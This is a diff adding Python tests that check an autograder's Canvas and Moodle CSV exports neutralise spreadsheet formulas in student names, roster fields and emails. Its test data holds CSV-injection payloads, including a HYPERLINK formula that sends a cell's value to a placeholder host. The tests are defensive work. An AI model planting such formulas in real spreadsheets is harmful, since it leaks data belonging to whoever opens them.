@@ -292,6 +292,43 @@ def test_the_moodle_files(tmp_path: Path) -> None:
     ]
 
 
+#: What a Canvas sortable name, a Moodle full name or a roster field may hold (issue 16).
+FORMULAS = ['=HYPERLINK("http://x.example/?leak="&C3)', "@SUM(1)", "-2+3", "+1", "\tcmd", "\rcmd"]
+
+
+def test_formulas_in_names_and_roster_fields_are_text_in_every_lms_file(tmp_path: Path) -> None:
+    """Each cell a spreadsheet would read as a formula gets a leading quote; the scores stay numbers."""
+    people = {"canvas-11": {"name": FORMULAS[0], "sis_user_id": FORMULAS[1], "sis_login_id": FORMULAS[2],
+                            "section": FORMULAS[3]}}  # fmt: skip
+    finals = [
+        final("canvas-11", "01_a", 7),
+        final("moodle-301", "01_a", 4, first_name=FORMULAS[4], last_name="Doe", email=FORMULAS[1]),
+        final("moodle-302", "01_a", 0, first_name=FORMULAS[5], last_name="Roe", email="-r@x.example"),
+    ]
+    lms.write_canvas_import(tmp_path / "canvas.csv", finals, people)
+    assert list(csv.reader((tmp_path / "canvas.csv").open(encoding="utf-8")))[2] == [
+        "'" + FORMULAS[0], "11", "'@SUM(1)", "'-2+3", "'+1", "7", "7"
+    ]  # fmt: skip
+    (worksheet,) = lms.write_moodle_worksheets(tmp_path, finals)
+    rows = list(csv.reader(worksheet.open(encoding="utf-8", newline="")))
+    assert [r[1:3] + r[4:6] for r in rows[1:]] == [
+        ["'\tcmd Doe", "'@SUM(1)", "4", "10"],
+        ["cmd Roe", "'-r@x.example", "0", "10"],
+    ]  # a carriage return is a control character: cleaning removes it, and "cmd" is no formula
+    lms.write_moodle_gradebook(tmp_path / "gb.csv", finals)
+    assert list(csv.reader((tmp_path / "gb.csv").open(encoding="utf-8", newline=""))) == [
+        ["First name", "Last name", "Email address", "01_a", "Total"],
+        ["cmd", "Roe", "'-r@x.example", "0", "0"],
+        ["'\tcmd", "Doe", "'@SUM(1)", "4", "4"],
+    ]
+
+
+def test_negative_numbers_the_engine_writes_stay_numbers(tmp_path: Path) -> None:
+    from autograder.engine.untrusted import csv_row
+
+    assert csv_row([-1.5, 0, 7.25, "-1.5", None, True]) == ["-1.5", "0", "7.25", "'-1.5", "", "True"]
+
+
 def test_nbgrader_layout_reads_the_submission_time(tmp_path: Path, text: str) -> None:
     folder = tmp_path / "submitted" / "jane" / TINY
     folder.mkdir(parents=True)
